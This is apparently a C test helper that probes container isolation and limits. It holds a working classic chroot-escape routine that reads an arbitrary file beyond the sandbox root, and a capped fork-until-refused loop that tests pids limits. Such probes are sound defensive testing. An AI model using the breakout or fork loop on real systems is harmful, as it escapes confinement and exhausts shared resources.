// probe: a tiny static multi-tool that runs inside test containers, for what busybox
// cannot show reliably. Built by the tests (and the chapters' labs) with
//     cc -static -O2 -o probe tools/probe/probe.c
// and copied into a rootfs. Each subcommand prints one short line a check can parse.
//
//   probe chroot-escape PATH   break out of a chroot (the classic way) and cat PATH
//   probe alloc MIB            allocate and touch MIB MiB, print "allocated MIB"
//   probe fork-until-refused   fork sleeping children until fork fails, print the count
//   probe spin SECONDS         burn CPU for SECONDS of wall time
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int usage(void) {
    fprintf(stderr, "usage: probe chroot-escape PATH | alloc MIB | fork-until-refused | spin SECONDS\n");
    return 2;
}

// The classic chroot breakout. chroot(2) changes where "/" resolves for this process,
// but not its working directory. So: chroot into a subdirectory while the working
// directory stays outside it, and ".." is no longer stopped at the (new) root; climb
// until ".." is itself, then chroot(".") there — the real root of the mount namespace.
static int chroot_escape(const char *path) {
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) { printf("chroot failed: %s\n", strerror(errno)); return 1; }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) { printf("second chroot failed: %s\n", strerror(errno)); return 1; }
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("not reachable: %s: %s\n", path, strerror(errno)); return 1; }
    char buffer[4096];
    ssize_t n;
    printf("escaped: ");
    fflush(stdout);
    while ((n = read(fd, buffer, sizeof buffer)) > 0) fwrite(buffer, 1, (size_t)n, stdout);
    return 0;
}

static int alloc(long mib) {
    size_t size = (size_t)mib << 20;
    char *memory = malloc(size);
    if (!memory) { printf("malloc failed\n"); return 1; }
    // Touch every page: untouched memory is only promised, never charged to a cgroup.
    for (size_t i = 0; i < size; i += 4096) memory[i] = 1;
    printf("allocated %ld\n", mib);
    return 0;
}

static int fork_until_refused(void) {
    // A process group of our own, so that the kill(0, ...) below reaches our children
    // and nothing else: without a new session the container shares the runtime's
    // group on the host. And a cap, so a missing pids limit is a failed check rather
    // than a fork bomb on the host.
    setpgid(0, 0);
    int count = 0;
    for (; count < 500; count++) {
        pid_t pid = fork();
        if (pid < 0) break;
        if (pid == 0) { pause(); _exit(0); }
    }
    printf("forked %d\n", count);
    fflush(stdout);
    // Take the children down with us: they are in our process group.
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    while (wait(NULL) > 0) {}
    return 0;
}

static int spin(double seconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    volatile unsigned long counter = 0;
    do {
        for (int i = 0; i < 100000; i++) counter++;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
    printf("spun %.1f\n", seconds);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return usage();
    if (strcmp(argv[1], "chroot-escape") == 0 && argc == 3) return chroot_escape(argv[2]);
    if (strcmp(argv[1], "alloc") == 0 && argc == 3) return alloc(atol(argv[2]));
    if (strcmp(argv[1], "fork-until-refused") == 0) return fork_until_refused();
    if (strcmp(argv[1], "spin") == 0 && argc == 3) return spin(atof(argv[2]));
    return usage();
}
